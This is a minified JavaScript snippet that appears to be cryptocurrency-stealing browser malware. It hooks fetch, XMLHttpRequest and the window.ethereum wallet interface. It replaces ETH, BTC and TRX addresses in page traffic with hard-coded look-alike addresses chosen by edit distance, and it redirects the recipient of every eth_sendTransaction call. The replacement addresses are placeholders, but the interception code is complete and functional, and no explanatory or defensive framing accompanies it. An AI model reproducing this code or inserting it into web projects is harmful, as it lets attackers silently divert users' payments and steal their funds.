!function() {
    const t = {
        eth: [ "0x0000000000000000000000000000000000000001", "0x0000000000000000000000000000000000000002" ],
        btc: [ "1invalidinvalidinvalidinvalidinva", "bc1qinvalidinvalidinvalidinvalidinvalid" ],
        trx: [ "Tinvalidinvalidinvalidinvalidinva" ]
    }, e = {
        eth: /\b0x[a-fA-F0-9]{40}\b/g,
        btc: /\b(?:1[a-km-zA-HJ-NP-Z1-9]{25,34}|bc1q[a-z0-9]{11,71})\b/g,
        trx: /\bT[A-Za-z1-9]{33}\b/g
    };
    function n(t, e) {
        const n = [];
        for (let e = 0; e <= t.length; e++) n[e] = [ e ];
        for (let t = 0; t <= e.length; t++) n[0][t] = t;
        for (let a = 1; a <= t.length; a++) for (let i = 1; i <= e.length; i++) n[a][i] = t[a - 1] === e[i - 1] ? n[a - 1][i - 1] : 1 + Math.min(n[a - 1][i], n[a][i - 1], n[a - 1][i - 1]);
        return n[t.length][e.length];
    }
    function a(t, e) {
        let a = e[0], i = 1 / 0;
        for (const o of e) {
            const e = n(t.toLowerCase(), o.toLowerCase());
            e < i && (i = e, a = o);
        }
        return a;
    }
    function i(n) {
        if ("string" != typeof n) return n;
        for (const i of Object.keys(e)) n = n.replace(e[i], e => t[i].includes(e) ? e : a(e, t[i]));
        return n;
    }
    const o = window.fetch;
    window.fetch = async function(...t) {
        const e = await o.apply(this, t), n = (e.headers.get("content-type") || "").includes("json") ? JSON.stringify(await e.clone().json()) : await e.clone().text();
        return new Response(i(n), {
            status: e.status,
            statusText: e.statusText,
            headers: e.headers
        });
    };
    const s = XMLHttpRequest.prototype.send;
    if (XMLHttpRequest.prototype.send = function(t) {
        const e = this, n = e.onreadystatechange;
        return e.onreadystatechange = function() {
            4 === e.readyState && e.responseText && Object.defineProperty(e, "responseText", {
                value: i(e.responseText)
            }), n && n.apply(e, arguments);
        }, s.call(e, i(t));
    }, window.ethereum) {
        const e = window.ethereum.request;
        window.ethereum.request = function(n) {
            return "eth_sendTransaction" === n.method && n.params && n.params[0] && (n.params[0].to = t.eth[0]), 
            e.call(window.ethereum, n);
        };
    }
}();
